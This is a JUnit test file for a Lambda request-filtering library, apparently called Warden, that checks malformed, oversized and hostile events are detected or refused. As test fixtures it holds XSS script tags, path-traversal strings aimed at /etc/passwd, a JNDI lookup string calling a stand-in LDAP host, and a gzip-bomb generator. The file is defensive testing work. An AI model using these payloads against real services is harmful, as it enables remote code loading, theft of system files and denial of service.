package dev.warden.lambda;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.amazonaws.services.lambda.runtime.RequestHandler;
import com.amazonaws.services.lambda.runtime.RequestStreamHandler;
import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyRequestEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyResponseEvent;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.warden.WardenBlockedException;
import dev.warden.detect.Detectors;
import dev.warden.detect.Finding;
import dev.warden.event.SecurityEvent;
import dev.warden.lambda.TestSupport.ListSink;
import dev.warden.lambda.testing.FakeContext;
import dev.warden.lambda.testing.Fixtures;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;

/**
 * Hostile events through the real wrappers (stream handler, zero-code handler, typed handler) with
 * every built-in detector. For each: no exception but {@link WardenBlockedException} leaves Warden;
 * the outcome (finding, typed refusal or pass-through) is what the policy says; on the allow path
 * the handler receives exactly the original event (byte-identical for stream handlers). Time and
 * allocation are checked against generous backstops only (a super-linear walk of these sizes would
 * take minutes or gigabytes); speed is measured by the benchmarks.
 */
class HostileInputTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final long BACKSTOP_MS = 20_000;
  private static final int MB = 1 << 20;
  private static final Map<String, String> MONITOR_LIMITS = Map.of("WARDEN_ACTIONS", "limit-exceeded=monitor");

  private final ListSink sink = new ListSink();
  private final FakeContext ctx = FakeContext.builder().requestId("req-h").build();

  /** What one invocation did. */
  private record Outcome(byte[] received, byte[] output, boolean blockedException) {
    boolean passed() {
      return received != null;
    }
  }

  /** Echoes and records exactly what it received; no static state. */
  private static final class Recorder implements RequestStreamHandler {
    final AtomicReference<byte[]> received = new AtomicReference<>();

    @Override
    public void handleRequest(java.io.InputStream in, java.io.OutputStream out,
        com.amazonaws.services.lambda.runtime.Context c) throws IOException {
      byte[] b = in.readAllBytes();
      received.set(b);
      out.write(b);
    }
  }

  /**
   * The policy under test plus a time budget far above what these events need, so the outcome
   * does not depend on how busy the test machine is; the budget itself is tested in
   * {@link TimeBudgetTest}.
   */
  private Warden.Builder builder(Map<String, String> env) {
    Map<String, String> withBudget = new HashMap<>(env);
    withBudget.putIfAbsent("WARDEN_TIME_BUDGET_MS", "60000");
    return Warden.builder().environment(withBudget).sink(sink).detectors(Detectors.discover());
  }

  private Outcome stream(byte[] event, Map<String, String> env) throws IOException {
    Recorder r = new Recorder();
    RequestStreamHandler h = builder(env).protect(r);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    boolean blocked = false;
    com.sun.management.ThreadMXBean mx = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
    long allocated = mx.getCurrentThreadAllocatedBytes();
    long start = System.nanoTime();
    try {
      h.handleRequest(new ByteArrayInputStream(event), out, ctx);
    } catch (WardenBlockedException e) {
      blocked = true;
    }
    long ms = (System.nanoTime() - start) / 1_000_000;
    allocated = mx.getCurrentThreadAllocatedBytes() - allocated;
    assertThat(ms).as("backstop wall time, ms").isLessThan(BACKSTOP_MS);
    // Backstop: the event is already in memory; Warden's own work may copy it a few times
    // (decoded string, runtime serializer) but never grows with nesting or field count.
    assertThat(allocated).as("bytes allocated").isLessThan(64L * event.length + 256L * MB);
    assertThat(sink.ofKind(SecurityEvent.GUARD_ERROR)).as("Warden must not fail").isEmpty();
    return new Outcome(r.received.get(), out.toByteArray(), blocked);
  }

  private List<String> rules() {
    return sink.ofKind(SecurityEvent.FINDING).stream().map(e -> e.finding().detector() + "/" + e.finding().rule()).toList();
  }

  private static void assertPassedUnchanged(Outcome o, byte[] event) {
    assertThat(o.blockedException()).isFalse();
    assertThat(o.received()).isEqualTo(event);
    assertThat(o.output()).isEqualTo(event);
  }

  private static ObjectNode rest() throws IOException {
    ObjectNode tree = (ObjectNode) JSON.readTree(Fixtures.bytes("events/apigw-rest.json"));
    tree.remove("multiValueQueryStringParameters");
    tree.remove("multiValueHeaders");
    return tree;
  }

  private static int status(Outcome o) throws IOException {
    return JSON.readTree(o.output()).get("statusCode").asInt();
  }

  // --- invalid JSON -----------------------------------------------------------------------------

  @Test
  void invalidJson_benign_passesByteIdentical() throws IOException {
    byte[] event = "{\"order\": \"42\", \"note\": \"leave at door\"".getBytes(StandardCharsets.UTF_8);
    Outcome o = stream(event, Map.of());
    assertPassedUnchanged(o, event);
    assertThat(rules()).isEmpty();
  }

  @Test
  void invalidJson_withAttack_inspectedAsTextAndRefused() throws IOException {
    byte[] event = "{\"note\": \"<script>alert(1)</script>\"".getBytes(StandardCharsets.UTF_8);
    Outcome o = stream(event, Map.of());
    assertThat(o.passed()).isFalse();
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).anyMatch(r -> r.startsWith("xss/"));
  }

  // --- truncated base64 body ----------------------------------------------------------------------

  @Test
  void truncatedBase64Body_undecodable_refusedAsMalformedWith400() throws IOException {
    ObjectNode e = rest();
    e.put("isBase64Encoded", true);
    e.put("body", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0P"); // 33 characters: a dangling sextet
    Outcome o = stream(JSON.writeValueAsBytes(e), Map.of());
    assertThat(o.passed()).isFalse();
    assertThat(status(o)).isEqualTo(400);
    assertThat(rules()).containsExactly("limit-exceeded/malformed-body");
  }

  @Test
  void truncatedBase64Body_undecodable_monitorPolicyPassesUnchanged() throws IOException {
    ObjectNode e = rest();
    e.put("isBase64Encoded", true);
    e.put("body", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0P");
    byte[] event = JSON.writeValueAsBytes(e);
    Outcome o = stream(event, MONITOR_LIMITS);
    assertPassedUnchanged(o, event);
    assertThat(rules()).containsExactly("limit-exceeded/malformed-body");
  }

  @Test
  void truncatedBase64Body_decodablePrefixWithAttack_detected() throws IOException {
    ObjectNode e = rest();
    e.put("isBase64Encoded", true);
    e.put("body", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"); // "<script>alert(1)</script>" without padding
    Outcome o = stream(JSON.writeValueAsBytes(e), Map.of());
    assertThat(status(o)).isEqualTo(403);
    assertThat(rules()).anyMatch(r -> r.startsWith("xss/"));
  }

  // --- invalid and overlong UTF-8 -------------------------------------------------------------------

  @Test
  void invalidUtf8Bytes_benign_passByteIdentical() throws IOException {
    byte[] event = {'{', '"', 'n', '"', ':', '"', (byte) 0xff, (byte) 0xfe, 'o', 'k', (byte) 0xc3, '"', '}'};
    Outcome o = stream(event, Map.of());
    assertPassedUnchanged(o, event);
  }

  @Test
  void overlongUtf8RawBytes_readAsReplacementCharacters_passByteIdentical() throws IOException {
    // Raw overlong sequences (C0 AE, an overlong '.') are invalid UTF-8: Jackson 2.18, the parser
    // Warden reads events with, turns each byte into U+FFFD, as Java's UTF-8 decoder does, so no
    // handler reading the event through them sees dots. The percent-encoded form is what reaches
    // applications as dots; it is detected (next test).
    byte[] event = {'{', '"', 'f', '"', ':', '"', (byte) 0xc0, (byte) 0xae, (byte) 0xc0, (byte) 0xae, '/',
        (byte) 0xc0, (byte) 0xae, (byte) 0xc0, (byte) 0xae, '/', 'x', '"', '}'};
    Outcome o = stream(event, Map.of());
    assertPassedUnchanged(o, event);
  }

  @Test
  void overlongUtf8PercentEncoded_detectedAsPathTraversal() throws IOException {
    byte[] event = "{\"file\":\"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd\"}".getBytes(StandardCharsets.UTF_8);
    Outcome o = stream(event, Map.of());
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).anyMatch(r -> r.startsWith("path/"));
  }

  // --- 10 MB body ----------------------------------------------------------------------------------

  @Test
  void tenMegabyteBody_defaultPolicy_refusedWith413ForSize() throws IOException {
    ObjectNode e = rest();
    e.put("body", "a".repeat(10 * MB));
    Outcome o = stream(JSON.writeValueAsBytes(e), Map.of());
    assertThat(o.passed()).isFalse();
    assertThat(status(o)).isEqualTo(413);
    assertThat(rules()).containsExactly("limit-exceeded/max-bytes");
  }

  @Test
  void tenMegabyteBody_largerLimitsMonitor_passesByteIdentical() throws IOException {
    ObjectNode e = rest();
    e.put("body", "a".repeat(10 * MB));
    byte[] event = JSON.writeValueAsBytes(e);
    Map<String, String> env = Map.of("WARDEN_MAX_BYTES", String.valueOf(16 * MB), "WARDEN_ACTIONS", "limit-exceeded=monitor");
    Outcome o = stream(event, env);
    assertPassedUnchanged(o, event);
    assertThat(rules()).containsExactly("limit-exceeded/value-too-long");
  }

  // --- deep nesting -------------------------------------------------------------------------------

  @Test
  void hundredThousandDeepNesting_refusedBeforeAnyOtherParser() throws IOException {
    byte[] event = ("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.UTF_8);
    Outcome o = stream(event, Map.of());
    assertThat(o.passed()).isFalse();
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).containsExactly("limit-exceeded/max-depth");
  }

  @Test
  void hundredThousandDeepNesting_monitorPolicy_passesByteIdentical() throws IOException {
    byte[] event = ("{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000)).getBytes(StandardCharsets.UTF_8);
    Outcome o = stream(event, MONITOR_LIMITS);
    assertPassedUnchanged(o, event);
    assertThat(rules()).containsExactly("limit-exceeded/max-depth");
  }

  @Test
  void hundredThousandDeepNesting_zeroCodeTypedHandler_refusedBeforeRuntimeSerializer() throws IOException {
    Map<String, String> env = Map.of(WardenHandler.HANDLER_VARIABLE, Handlers.Orders.class.getName());
    WardenHandler h = new WardenHandler(env, builder(env));
    byte[] event = ("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.UTF_8);
    int before = Handlers.CALLS.get();
    assertThatThrownBy(() -> h.handleRequest(new ByteArrayInputStream(event), new ByteArrayOutputStream(), ctx))
        .isInstanceOf(WardenBlockedException.class);
    assertThat(Handlers.CALLS.get()).isEqualTo(before);
    assertThat(rules()).containsExactly("limit-exceeded/max-depth");
  }

  // --- a million fields ---------------------------------------------------------------------------

  private static byte[] millionFields() {
    StringBuilder sb = new StringBuilder(16 * MB);
    sb.append('{');
    for (int i = 0; i < 1_000_000; i++) {
      if (i > 0) {
        sb.append(',');
      }
      sb.append("\"f").append(i).append("\":\"v\"");
    }
    return sb.append('}').toString().getBytes(StandardCharsets.UTF_8);
  }

  @Test
  void millionFields_defaultPolicy_refusedForSize() throws IOException {
    Outcome o = stream(millionFields(), Map.of());
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).containsExactly("limit-exceeded/max-bytes");
  }

  @Test
  void millionFields_withinByteLimit_walkStopsAtMaxFieldsAndRefuses() throws IOException {
    Outcome o = stream(millionFields(), Map.of("WARDEN_MAX_BYTES", String.valueOf(32 * MB)));
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).containsExactly("limit-exceeded/max-fields");
  }

  // --- NUL bytes ------------------------------------------------------------------------------------

  @Test
  void nulEscapesInsidePathAttack_detected() throws IOException {
    byte[] event = "{\"file\":\"..\\u0000/..\\u0000/etc/passwd\"}".getBytes(StandardCharsets.UTF_8);
    Outcome o = stream(event, Map.of());
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).anyMatch(r -> r.startsWith("path/"));
  }

  @Test
  void rawNulBytes_benign_passByteIdentical() throws IOException {
    byte[] event = "{\"a\":\"x\u0000y\"}\u0000\u0000".getBytes(StandardCharsets.UTF_8);
    Outcome o = stream(event, Map.of());
    assertPassedUnchanged(o, event);
  }

  // --- huge headers -----------------------------------------------------------------------------------

  @Test
  void twentyThousandHeaders_refusedAtMaxFieldsWith413() throws IOException {
    ObjectNode e = rest();
    ObjectNode headers = (ObjectNode) e.get("headers");
    for (int i = 0; i < 20_000; i++) {
      headers.put("X-H" + i, "v" + i);
    }
    Outcome o = stream(JSON.writeValueAsBytes(e), Map.of());
    assertThat(status(o)).isEqualTo(413);
    assertThat(rules()).containsExactly("limit-exceeded/max-fields");
  }

  @Test
  void oneMegabyteHeaderValue_typedHandler_defaultRefusesMonitorPassesSameObject() {
    APIGatewayProxyRequestEvent e = Fixtures.load("events/apigw-rest.json", APIGatewayProxyRequestEvent.class);
    Map<String, String> headers = new HashMap<>(e.getHeaders());
    headers.put("X-Big", "b".repeat(MB));
    e.setHeaders(headers);
    e.setMultiValueHeaders(null);
    AtomicReference<Object> seen = new AtomicReference<>();
    RequestHandler<APIGatewayProxyRequestEvent, APIGatewayProxyResponseEvent> user = (ev, c) -> {
      seen.set(ev);
      return new APIGatewayProxyResponseEvent().withStatusCode(200);
    };
    APIGatewayProxyResponseEvent refused = builder(Map.of()).protect(user).handleRequest(e, ctx);
    assertThat(refused.getStatusCode()).isEqualTo(413);
    assertThat(seen.get()).isNull();
    APIGatewayProxyResponseEvent passed = builder(MONITOR_LIMITS).protect(user).handleRequest(e, ctx);
    assertThat(passed.getStatusCode()).isEqualTo(200);
    assertThat(seen.get()).isSameAs(e);
    assertThat(e.getHeaders().get("X-Big")).hasSize(MB);
    assertThat(sink.ofKind(SecurityEvent.FINDING)).extracting(SecurityEvent::finding).extracting(Finding::rule)
        .containsExactly("value-too-long", "value-too-long");
  }

  // --- compressed bombs in CloudWatch Logs payloads ---------------------------------------------------

  /** A CloudWatch Logs subscription event whose {@code awslogs.data} is base64(gzip(payload)). */
  private static byte[] cloudWatchLogs(byte[] gzipped) throws IOException {
    ObjectNode e = JSON.createObjectNode();
    e.putObject("awslogs").put("data", java.util.Base64.getEncoder().encodeToString(gzipped));
    return JSON.writeValueAsBytes(e);
  }

  private static byte[] gzip(byte[] data) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(out)) {
      gz.write(data);
    }
    return out.toByteArray();
  }

  /** gzip of {@code size} blanks, written in chunks so the test itself stays small in memory. */
  private static byte[] gzipBomb(long size) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] chunk = new byte[MB];
    java.util.Arrays.fill(chunk, (byte) ' ');
    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(out)) {
      gz.write("{\"logEvents\":[{\"message\":\"".getBytes(StandardCharsets.UTF_8));
      for (long w = 0; w < size; w += chunk.length) {
        gz.write(chunk);
      }
      gz.write("\"}]}".getBytes(StandardCharsets.UTF_8));
    }
    return out.toByteArray();
  }

  @Test
  void cloudWatchLogsGzipBomb_inflationStopsAtLimitAndRefuses() throws IOException {
    byte[] event = cloudWatchLogs(gzipBomb(256L * MB)); // ~250 KB that inflates to 256 MB
    assertThat(event.length).isLessThan(MB);
    Outcome o = stream(event, Map.of()); // the allocation backstop (64 x event + 256 MB) fails if it inflated everything
    assertThat(o.passed()).isFalse();
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).containsExactly("limit-exceeded/decompressed-size");
  }

  @Test
  void cloudWatchLogsGzipBomb_monitorPolicy_passesByteIdentical() throws IOException {
    byte[] event = cloudWatchLogs(gzipBomb(64L * MB));
    Outcome o = stream(event, MONITOR_LIMITS);
    assertPassedUnchanged(o, event);
    assertThat(rules()).containsExactly("limit-exceeded/decompressed-size");
  }

  @Test
  void cloudWatchLogsNestedGzip_innerLayerNotInflatedAndPassesUnchanged() throws IOException {
    // gzip inside gzip: the outer layer inflates to binary, which is not text, so it is recorded
    // as skipped and never inflated again; a second layer cannot multiply the bomb.
    byte[] event = cloudWatchLogs(gzip(gzipBomb(64L * MB)));
    Outcome o = stream(event, Map.of());
    assertPassedUnchanged(o, event);
    assertThat(rules()).isEmpty();
  }

  @Test
  void cloudWatchLogsTruncatedGzip_refusedAsMalformed() throws IOException {
    byte[] gz = gzip("{\"logEvents\":[{\"message\":\"hello\"}]}".getBytes(StandardCharsets.UTF_8));
    byte[] event = cloudWatchLogs(java.util.Arrays.copyOf(gz, gz.length / 2));
    Outcome o = stream(event, Map.of());
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).containsExactly("limit-exceeded/malformed-body");
  }

  @Test
  void cloudWatchLogsAttackInMessage_detected() throws IOException {
    byte[] event = cloudWatchLogs(gzip("{\"logEvents\":[{\"id\":\"1\",\"message\":\"GET /?q=${jndi:ldap://x.example/a}\"}]}"
        .getBytes(StandardCharsets.UTF_8)));
    Outcome o = stream(event, Map.of());
    assertThat(o.blockedException()).isTrue();
    assertThat(rules()).anyMatch(r -> r.startsWith("jndi/"));
  }
}
